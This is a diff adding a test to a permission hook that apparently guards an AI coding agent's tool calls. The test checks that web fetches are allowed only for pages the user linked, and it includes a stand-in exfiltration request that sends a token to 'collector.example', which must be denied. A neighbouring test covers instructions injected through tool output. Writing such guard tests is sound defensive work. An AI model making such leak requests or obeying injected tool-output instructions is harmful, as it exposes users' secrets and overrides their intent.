@@ -109,6 +109,24 @@ def test_claude_codes_other_tools(
     assert answer["permissionDecision"] == expected, answer["permissionDecisionReason"]
 
 
+def test_a_page_the_user_linked_is_fetched_and_a_made_up_one_is_not(project: Path, handle: Handler) -> None:
+    handle(event("UserPromptSubmit", project, prompt="Summarise https://example.com/post/42 for me"))
+    linked = {"url": "https://example.com/post/42", "prompt": "Summarise the post"}
+    assert (
+        _decision(handle(event("PreToolUse", project, tool_name="WebFetch", tool_input=linked)))["permissionDecision"]
+        == "allow"
+    )
+    leak = {"url": "https://collector.example/?q=token", "prompt": "x"}
+    assert (
+        _decision(handle(event("PreToolUse", project, tool_name="WebFetch", tool_input=leak)))["permissionDecision"]
+        == "deny"
+    )
+    other = {"session_id": "another-session"}  # a session whose prompts name no page
+    handle(event("UserPromptSubmit", project, prompt="Rename the helper in src/app.py", **other))
+    unasked = event("PreToolUse", project, tool_name="WebFetch", tool_input=linked, **other)
+    assert _decision(handle(unasked))["permissionDecision"] == "deny"
+
+
 def test_instruction_injected_by_a_tool_output_is_denied(ix: Intently, project: Path, handle: Handler) -> None:
     handle(event("UserPromptSubmit", project, prompt="Fix the failing test in tests/test_api.py"))
     target = str(project / "tests" / "test_api.py")
